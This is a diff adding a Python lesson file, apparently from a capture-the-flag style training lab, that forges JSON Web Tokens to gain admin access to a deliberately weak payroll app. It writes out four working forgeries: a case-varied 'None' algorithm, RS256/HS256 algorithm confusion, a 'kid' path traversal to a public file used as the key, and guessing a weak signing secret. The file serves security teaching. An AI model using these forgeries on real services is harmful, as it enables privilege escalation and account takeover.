@@ -1,0 +1,49 @@
+"""Four ways to be admin at the payroll (lesson 02)."""
+
+from labutils.identity.tokens import SigningKey, b64, json_part, sign
+from labutils.stage import forgeries, weak_app
+from labutils.stage.weak_app import APP, WeakApp
+
+ADMIN = {"sub": "admin"}
+
+
+def flag(scene: WeakApp, token: str) -> str:
+    answer = scene.tom.get(APP + "/admin", headers={"authorization": f"Bearer {token}"})
+    return answer.json().get("flag", answer.text)
+
+
+def another_spelling(scene: WeakApp) -> str:
+    return flag(scene, f"{json_part({'alg': 'None'})}.{json_part(ADMIN)}.")
+
+
+def algorithm_confusion(scene: WeakApp) -> str:
+    return flag(scene, forgeries.confused(ADMIN, scene.tom.get(APP + "/keys/rs256.pem").content))
+
+
+def a_file_that_everybody_has(scene: WeakApp) -> str:
+    picture = scene.tom.get(APP + "/static/logo.svg").content
+    header = {"alg": "HS256", "kid": "../static/logo.svg"}
+    signed = f"{json_part(header)}.{json_part(ADMIN)}"
+    mac = forgeries.hmac.digest(picture, signed.encode(), "sha256")
+    return flag(scene, f"{signed}.{b64(mac)}")
+
+
+def a_guessed_secret(scene: WeakApp) -> str:
+    signed, _, signature = scene.old_token.rpartition(".")
+    for guess in forgeries.guesses():
+        if b64(forgeries.hmac.digest(guess, signed.encode(), "sha256")) == signature:
+            return flag(scene, sign(ADMIN, SigningKey(guess, "HS256", "hs-staging")))
+    return "not guessed"
+
+
+ROUTES = {
+    "another spelling of none": another_spelling,
+    "algorithm confusion": algorithm_confusion,
+    "a file that everybody has": a_file_that_everybody_has,
+    "a guessed secret": a_guessed_secret,
+}
+SHUT = {
+    "the word none": f"{json_part({'alg': 'none'})}.{json_part(ADMIN)}.",
+    "Tom's own key": forgeries.with_own_key(ADMIN),
+    "a changed claim": forgeries.changed(weak_app.weak_app().token, ADMIN),
+}
